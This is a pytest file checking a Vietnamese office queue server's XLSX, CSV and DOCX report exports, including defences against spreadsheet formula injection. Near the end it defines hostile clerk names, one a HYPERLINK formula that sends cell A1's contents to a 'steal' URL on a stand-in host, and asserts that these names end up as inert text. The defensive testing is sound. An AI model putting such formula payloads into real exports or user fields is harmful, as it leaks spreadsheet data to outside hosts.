"""CSV and XLSX exports carry the same figures as the JSON report; XLSX opens back in openpyxl."""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook

from queue_server import auth
from queue_server.store.db import connect
from tests.support.reports_office import Office, add_person


def test_xlsx_opens_back_with_the_report_figures(morning):
    answer = morning.get("/api/reports/summary?from=2026-11-23&to=2026-11-23&format=xlsx", "admin")
    assert answer.status_code == 200
    assert answer.headers["Content-Disposition"] == 'attachment; filename="bao-cao-2026-11-23-2026-11-23.xlsx"'
    book = load_workbook(io.BytesIO(answer.data))
    assert book.sheetnames == ["Tổng hợp", "Lĩnh vực", "Quầy", "Cán bộ", "Hài lòng", "Giờ cao điểm", "Biểu đồ"]
    summary = {row[0]: row[1] for row in book["Tổng hợp"].iter_rows(min_row=4, values_only=True) if row[0]}
    assert summary["Số phiếu cấp"] == 5 and summary["Đã phục vụ"] == 3 and summary["Vắng mặt"] == 1
    assert summary["Thời gian chờ (phút), trung bình"] == 14.0  # 840 s
    assert summary["Tỷ lệ hài lòng (%)"] == 66.7
    services = list(book["Lĩnh vực"].iter_rows(values_only=True))
    assert services[1][:3] == ("HT – Tư pháp – Hộ tịch", 4, 3)
    heat = list(book["Giờ cao điểm"].iter_rows(values_only=True))
    assert heat[1][0] == "T2" and heat[1][1 + 8] == 5
    assert book["Tổng hợp"]["B2"].is_date and book["Tổng hợp"]["B2"].number_format == "DD/MM/YYYY"
    native = book["Biểu đồ"]._charts
    assert len(native) == 3 and len(book["Biểu đồ"]._images) == 1  # Excel's own charts; the heatmap a picture
    assert native[0].title.tx.rich.p[0].r[0].t == "Số phiếu theo lĩnh vực"


def test_csv_is_one_tidy_table_with_a_bom_for_excel(morning):
    answer = morning.get("/api/reports/summary?from=2026-11-23&to=2026-11-23&format=csv", "admin")
    text = answer.data.decode("utf-8")
    assert text.startswith("\ufeffsection,group,metric,value")
    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))
    figures = {(r[0], r[2]): r[3] for r in rows[1:] if r[0] == "office"}
    assert figures[("office", "tickets.issued")] == "5"
    assert figures[("office", "wait_s.p90")] == "1308.0"
    assert ("heatmap", "T2", "08h", "5") in {tuple(r) for r in rows}


def test_the_csv_for_people_has_vietnamese_headings_minutes_and_a_decimal_comma(morning):
    answer = morning.get("/api/reports/summary?from=2026-11-23&to=2026-11-23&format=csv-vi", "admin")
    assert answer.headers["Content-Disposition"] == 'attachment; filename="bao-cao-2026-11-23-2026-11-23-bang.csv"'
    rows = list(csv.reader(io.StringIO(answer.data.decode("utf-8-sig")), delimiter=";"))
    assert rows[0][1] == "từ 23/11/2026 đến 23/11/2026"
    header, office = rows[1], rows[2]
    figures = dict(zip(header, office, strict=True))
    assert figures["Nhóm"] == "Toàn cơ quan" and figures["Số phiếu cấp"] == "5"
    assert figures["Chờ trung bình (phút)"] == "14" and figures["90% chờ dưới (phút)"] == "21,8"  # 1308 s
    assert figures["Tỷ lệ hài lòng (%)"] == "66,7"
    assert [r[0] for r in rows[3:]].count("Lĩnh vực") == 5


def test_docx_is_the_written_report_with_the_fields_table_and_the_survey_paragraphs(morning):
    from docx import Document

    answer = morning.get("/api/reports/summary?from=2026-11-23&to=2026-11-23&format=docx", "admin")
    assert answer.status_code == 200
    assert answer.headers["Content-Disposition"] == 'attachment; filename="bao-cao-2026-11-23-2026-11-23.docx"'
    document = Document(io.BytesIO(answer.data))
    texts = [p.text for p in document.paragraphs]
    assert any("Từ ngày 23/11/2026 đến ngày 23/11/2026" in t for t in texts)
    assert "Tổng số phiếu cấp 5 phiếu; đã phục vụ 3, vắng mặt 1" in "\n".join(texts)
    report = morning.get("/api/reports/summary?from=2026-11-23&to=2026-11-23", "admin").get_json()
    assert report["satisfaction"]["paragraphs"][0] in texts and texts[-1] == report["satisfaction"]["paragraphs"][-1]
    [table] = document.tables
    rows = [[cell.text for cell in row.cells] for row in table.rows]
    assert rows[0][0] == "Lĩnh vực" and rows[1][:4] == ["Tư pháp – Hộ tịch", "4", "3", "1"]
    assert rows[1][4] == "14,0"  # 840 s, the decimal comma


def test_an_unknown_format_is_422(morning):
    assert morning.get("/api/reports/summary?format=pdf", "admin").status_code == 422


HOSTILE_NAME = '=HYPERLINK("http://example.invalid/x","b")'


def _hostile_report(morning) -> dict:
    """The played morning's report with a person's name that a spreadsheet would run as a formula."""
    report = morning.get("/api/reports/summary?from=2026-11-23&to=2026-11-23", "admin").get_json()
    report["office"] = HOSTILE_NAME
    for clerk in report.get("clerks", []):
        clerk["name"] = "@" + str(clerk.get("name"))
    return report


def test_csv_cells_that_look_like_formulas_are_made_inert(morning):
    from queue_server.reports.export import to_csv

    rows = list(csv.reader(io.StringIO(to_csv(_hostile_report(morning)))))
    cells = [cell for row in rows for cell in row]
    assert "'" + HOSTILE_NAME in cells
    assert not [cell for cell in cells if cell.startswith(("=", "+", "@", "\t", "\r"))]
    assert any(cell == "5" for cell in cells)  # numbers stay numbers


def test_xlsx_keeps_a_formula_looking_name_as_text(morning):
    from queue_server.reports.export import to_xlsx

    book = load_workbook(io.BytesIO(to_xlsx(_hostile_report(morning), charts=False)))
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    assert book["Tổng hợp"]["B1"].value == HOSTILE_NAME and book["Tổng hợp"]["B1"].data_type == "s"


CLERK_FORMULA = '=HYPERLINK("http://example.invalid/steal?d="&A1,"Bấm vào đây")'


@pytest.fixture
def formula_clerk(office: Office) -> Office:
    """An office where counter 1's clerk signed up under a name a spreadsheet would run, and served a ticket."""
    with connect(office.db_path) as db:
        add_person(db.conn, CLERK_FORMULA, "clerk", [1])
        person_id = db.conn.execute("SELECT id FROM users WHERE username = ?", (CLERK_FORMULA,)).fetchone()[0]
        person = auth.Principal("person", person_id, CLERK_FORMULA, "clerk", (1,))
        office.tokens["formula"], _ = auth.open_session(db.conn, person, 12)
    office.issue("HT")
    office.clock.advance(minutes=4)
    assert office.post("/api/counters/1/call-next", "formula").status_code == 200
    office.clock.advance(minutes=6)
    assert office.post("/api/counters/1/complete", "formula").status_code == 200
    return office


def test_a_clerk_named_like_a_formula_is_plain_text_in_the_csv(formula_clerk: Office) -> None:
    answer = formula_clerk.get("/api/reports/summary?from=2026-11-23&to=2026-11-23&format=csv", "admin")
    rows = list(csv.reader(io.StringIO(answer.data.decode("utf-8").lstrip("\ufeff"))))
    clerk_rows = [row for row in rows if row[0] == "clerk"]
    assert clerk_rows and {row[1] for row in clerk_rows} == {"'" + CLERK_FORMULA}  # the name is visible, inert
    assert not [cell for row in rows for cell in row if cell[:1] in ("=", "+", "@", "\t", "\r")]
    served = {row[2]: row[3] for row in clerk_rows}
    assert served["tickets.served"] == "1" and float(served["service_s.mean"]) == 360.0  # numbers stay numbers


def test_a_clerk_named_like_a_formula_is_a_text_cell_in_the_xlsx(formula_clerk: Office) -> None:
    answer = formula_clerk.get("/api/reports/summary?from=2026-11-23&to=2026-11-23&format=xlsx", "admin")
    book = load_workbook(io.BytesIO(answer.data))
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert not [f"{cell.parent.title}!{cell.coordinate}" for cell in cells if cell.data_type == "f"]
    clerk = next(row for row in book["Cán bộ"].iter_rows() if row[0].value == CLERK_FORMULA)
    assert clerk[0].data_type == "s"  # shown as the text it is
    assert clerk[1].data_type == "n" and isinstance(clerk[1].value, int)
